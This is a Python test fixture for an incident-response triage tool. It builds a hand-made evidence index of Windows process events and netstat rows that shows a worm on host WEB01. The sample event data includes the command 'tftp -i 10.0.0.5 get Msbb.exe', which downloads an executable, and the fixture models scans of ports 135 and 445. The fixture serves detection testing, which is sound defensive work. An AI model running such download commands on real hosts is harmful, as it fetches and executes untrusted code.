"""A small, complete outcome of a triage, made by hand: two sources, four rows, two findings, a story."""

from __future__ import annotations

from pathlib import Path

from responder.case.result import TriageResult
from responder.index.reader import EvidenceIndex
from responder.index.shard import ShardWriter
from responder.index.writer import IndexWriter
from responder.model.absent import Absent
from responder.model.account import EvidenceWarning, Explained, Level, Outcome
from responder.model.endpoint import EndpointRecord
from responder.model.event import EventRecord
from responder.model.evidence import EvidenceItem
from responder.model.finding import (
    AnalysisResult,
    Confidence,
    Finding,
    Gap,
    RuleOutcome,
    Severity,
    Stage,
    StageSummary,
    StoryLine,
    Subject,
    SubjectKind,
    Verdict,
)
from responder.model.host import Host
from responder.model.source import RefKind, SourceRef
from responder.model.time import from_unix

T0 = from_unix(1_100_876_467)  # 2004-11-19 15:01:07 UTC
SECOND = 10_000_000


def log_ref(record: int, evidence: str = "e1") -> SourceRef:
    return SourceRef(evidence_id=evidence, path="log.evt", kind=RefKind.RECORD, value=record)


def net_ref(line: int, evidence: str = "e2") -> SourceRef:
    return SourceRef(evidence_id=evidence, path="net.txt", kind=RefKind.LINE, value=line)


def evidence(first_id: int = 1) -> tuple[EvidenceItem, ...]:
    return (
        EvidenceItem(
            id=f"e{first_id}", host_id="h1", path="log.evt", format="evt", table="events", size=4_096,
            sha256="a" * 64, expected=4, shown=3, explained=(Explained(reason="overwritten", count=1, first=9),),
            counts={"events": 3}, ref_kind="record", first=T0, last=T0 + 2 * SECOND, facts=("Security",),
        ),
        EvidenceItem(
            id=f"e{first_id + 1}", host_id="h1", path="net.txt", format="netstat", table="endpoints", size=77,
            sha256="b" * 64, expected=2, shown=2, counts={"endpoints": 2}, ref_kind="line", first=Absent.NOT_COLLECTED,
            outcome=Outcome.PARTIAL, reason="cut off",
            warnings=(EvidenceWarning(message="the last line is cut", level=Level.LOSS, value=3),),
        ),
    )  # fmt: skip


def make_index(
    path: Path, command: str = "tftp -i 10.0.0.5 get Msbb.exe", process: str = "Msbb.exe", first_id: int = 1
) -> tuple[EvidenceItem, ...]:
    items = evidence(first_id)
    writer = IndexWriter(path)
    shard = path.with_name(path.name + ".shard1")
    rows = ShardWriter(shard)
    for n, name in enumerate(["tftp.exe", process, "cmd.exe"]):
        rows.add(
            EventRecord(
                ref=100 + n, time=T0 + n * SECOND, event_action="process start", event_id=592, process_name=name,
                process_command_line=command if n == 0 else Absent.ACCESS_DENIED, log_channel="Security",
                message=f"A new process has been created: {name}",
            )
        )  # fmt: skip
    rows.close()
    writer.merge(items[0], shard)
    shard.unlink()
    rows = ShardWriter(shard)
    for line, port in ((5, 135), (6, 445)):
        rows.add(
            EndpointRecord(
                source=net_ref(line), process_name=process, process_pid=Absent.NOT_COLLECTED, protocol="tcp",
                local_address="192.168.221.180", local_port=1_025 + line, remote_address=f"10.1.1.{line}",
                remote_port=port, state="SYN_SENT",
            )
        )  # fmt: skip
    rows.close()
    writer.merge(items[1], shard)
    shard.unlink()
    writer.set_hosts([host()])
    writer.set_meta("settings", {"fanout_targets": 10})
    writer.build_indexes()
    writer.close()
    return items


def host() -> Host:
    return Host(
        id="h1", name="WEB01", os="Windows 2000", family="windows", addresses=("192.168.221.180",),
        timezone="+09:00", timezone_known=True,
    )  # fmt: skip


def analysis(process: str = "Msbb.exe", first_id: int = 1, title: str = "") -> AnalysisResult:
    log, net = f"e{first_id}", f"e{first_id + 1}"
    download = Finding(
        id="f1", host_id="h1", rule_id="process.download", title=title or "tftp.exe was started by a service",
        severity=Severity.CRITICAL, confidence=Confidence.HIGH, stage=Stage.DOWNLOAD, techniques=("T1105",),
        subjects=(Subject(SubjectKind.EXECUTABLE, "tftp.exe"),),
        evidence=(log_ref(100, log), log_ref(101, log)), facts={"parent": "inetinfo.exe", "count": 2},
        why="Services do not download programs.", next_step="Find out what it fetched.",
        first_seen=T0, last_seen=T0 + SECOND,
    )  # fmt: skip
    scan = Finding(
        id="f2", host_id="h1", rule_id="endpoint.fanout", title=f"{process} calls 2 hosts on 2 ports",
        severity=Severity.HIGH, confidence=Confidence.MEDIUM, stage=Stage.SCAN, techniques=("T1046",),
        subjects=(Subject(SubjectKind.EXECUTABLE, process), Subject(SubjectKind.ADDRESS, "10.1.1.5")),
        evidence=(net_ref(5, net), net_ref(6, net)), facts={"distinct_targets": 2, "ports": {"135": 1, "445": 1}},
        why="Half-open connections to many hosts.", next_step="Isolate the host.",
    )  # fmt: skip
    return AnalysisResult(
        findings=(download, scan),
        outcomes=(
            RuleOutcome(rule_id="process.download", status="run", hits=1),
            RuleOutcome(rule_id="integrity.services", status="not run", reason="no integrity report was collected"),
        ),
        story=(
            StoryLine(text="tftp.exe started by inetinfo.exe", host_id="h1", time=T0, stage=Stage.DOWNLOAD,
                      finding_ids=("f1",), sources=1),
            StoryLine(text=f"{process} scans", host_id="h1", stage=Stage.SCAN, finding_ids=("f2",), sources=2),
        ),
        cycle={
            "h1": (
                StageSummary(stage=Stage.ATTACK, state="not collected", text=("no web log",)),
                StageSummary(stage=Stage.DOWNLOAD, state="found", text=("tftp.exe",), finding_ids=("f1",),
                             first_seen=T0),
                StageSummary(stage=Stage.BACKDOOR, state="none found"),
                StageSummary(stage=Stage.SCAN, state="found", text=("2 hosts", "135 ×1, 445 ×1"),
                             finding_ids=("f2",)),
            )
        },
        gaps=(Gap(host_id="h1", text="entry vector not visible: no web server log was collected"),),
        verdicts=(
            Verdict(host_id="h1", level="compromised", sentence="A worm runs on this host and is scanning now.",
                    confidence=Confidence.HIGH, sources=2, first_seen=T0, last_seen=T0 + SECOND),
        ),
        next_steps=("Isolate the host.", "Keep its memory."),
    )  # fmt: skip


def make_result(
    index_path: Path, *, process: str = "Msbb.exe", command: str = "tftp -i 10.0.0.5 get Msbb.exe", first_id: int = 1,
    title: str = "",
) -> TriageResult:  # fmt: skip
    items = make_index(index_path, command, process, first_id)
    return TriageResult(
        index_path=str(index_path),
        evidence=items,
        hosts=(host(),),
        analysis=analysis(process, first_id, title),
        counts={"events": 3, "endpoints": 2},
        timings={"parse_s": 0.1, "index_s": 0.2, "analysis_s": 0.3},
        tool={"name": "host-responder", "version": "0.1.0", "sqlite": "3"},
        paths=("/evidence",),
        zone="",
    )


class Clock:
    """Ticks that advance by one second at every look."""

    def __init__(self) -> None:
        self.at = from_unix(1_700_000_000)

    def __call__(self) -> int:
        self.at += SECOND
        return self.at


def rows_of(path: Path, table: str) -> int:
    index = EvidenceIndex(path)
    try:
        return index.count(table)
    finally:
        index.close()
